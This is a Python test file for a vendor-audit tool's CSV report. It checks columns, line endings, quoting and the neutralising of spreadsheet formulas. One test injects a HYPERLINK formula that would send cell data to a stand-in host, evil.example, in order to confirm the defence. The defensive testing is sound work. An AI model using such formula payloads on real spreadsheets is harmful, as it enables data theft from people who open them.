from __future__ import annotations

import copy
import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.reports.conftest import make_audit, make_clean_audit, make_empty_audit, make_hostile_audit
from vendor_audit.reports.csv_report import COLUMNS, REPORT, defused
from vendor_audit.reports.interface import no_evidence

if TYPE_CHECKING:
    from collections.abc import Callable

Json = Any

STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def rows_of(audit: Json) -> list[dict[str, str]]:
    text = REPORT.render(audit, no_evidence).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("make", [make_audit, make_clean_audit, make_hostile_audit, make_empty_audit])
def test_a_row_is_a_finding_and_has_every_column(make: Callable[[], Json]) -> None:
    audit = make()
    rows = rows_of(audit)
    assert [(each["check"], each["verdict"]) for each in rows] == [
        (each["check"], each["verdict"]) for each in audit["findings"]
    ]
    assert all(tuple(each) == COLUMNS and None not in each.values() for each in rows)


def test_an_audit_without_findings_is_a_header(empty_audit: Json) -> None:
    assert REPORT.render(empty_audit, no_evidence).decode("utf-8-sig") == f"{','.join(COLUMNS)}\r\n"


def test_the_file_begins_with_a_byte_order_mark_and_its_lines_end_as_the_rfc_asks(audit: Json) -> None:
    content = REPORT.render(audit, no_evidence)
    assert content.startswith(b"\xef\xbb\xbfcheck,")
    assert content.count(b"\r\n") == content.count(b"\n") == len(audit["findings"]) + 1


@pytest.mark.parametrize("start", STARTS)
def test_a_formula_is_text(audit: Json, start: str) -> None:
    audit["findings"] = audit["findings"][:1]
    nasty = f'{start}HYPERLINK("https://evil.example?"&A1,"x")'
    audit["findings"][0] |= {"reason": nasty, "target": {"kind": nasty, "name": nasty}, "check": nasty}
    audit["vendor_file"]["data"]["vendor"]["name"] = nasty
    (row,) = rows_of(audit)
    for column in ("reason", "target", "target_kind", "check", "vendor"):
        assert not row[column].startswith(STARTS)
        assert "HYPERLINK" in row[column]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        (" =1", "' =1"),
        ('"=1', "'\"=1"),
        ("x;=1+1", "x;'=1+1"),
        ('x; "@SUM(1)', "x;' \"@SUM(1)"),
        ("a=1, b=-2", "a=1, b=-2"),
        ("GDPR 28(3); GDPR 29", "GDPR 28(3); GDPR 29"),
        ("", ""),
    ],
)
def test_an_apostrophe_stands_before_a_formula_and_nowhere_else(text: str, safe: str) -> None:
    assert defused(text) == safe


@given(st.text(max_size=30))
def test_no_cell_begins_with_a_formula_whatever_the_separator(text: str) -> None:
    for separator in (None, ";"):
        for cell in defused(text).split(separator) if separator else [defused(text)]:
            assert not cell.lstrip(' "\t\r\n').startswith(("=", "+", "-", "@")), cell


def test_quotes_commas_and_line_ends_stay_within_their_cell(audit: Json) -> None:
    audit["findings"] = audit["findings"][:1]
    audit["findings"][0]["reason"] = 'said "no", then\r\nleft'
    (row,) = rows_of(audit)
    assert row["reason"] == 'said "no", then left'


def test_what_people_decided_has_its_columns(audit: Json) -> None:
    rows = rows_of(audit)
    accepted = next(each["accepted"] for each in audit["findings"] if "accepted" in each)
    reviewed = next(each["review"] for each in audit["findings"] if "review" in each)
    assert accepted["until"] in {each["accepted_until"] for each in rows}
    assert reviewed["by"] in {each["review_by"] for each in rows}


def test_what_the_baseline_had_is_marked(audit: Json) -> None:
    failing = next(each for each in audit["findings"] if each["verdict"] == "fail" and "target" in each)
    entry = {"check": failing["check"], "target": failing["target"]["name"], "verdict": "fail"}
    audit["gate"]["baseline"] = {"id": "a", "started": "2026-11-20T10:00:00.000Z", "sha256": "0" * 64, "had": [entry]}
    (row,) = [each for each in rows_of(audit) if each["in_baseline"]]
    assert (row["check"], row["target"]) == (entry["check"], entry["target"])


def test_the_same_audit_gives_the_same_bytes_and_is_not_changed(audit: Json) -> None:
    before = copy.deepcopy(audit)
    first = REPORT.render(audit, no_evidence)
    assert audit == before
    assert REPORT.render(make_audit(), no_evidence) == first
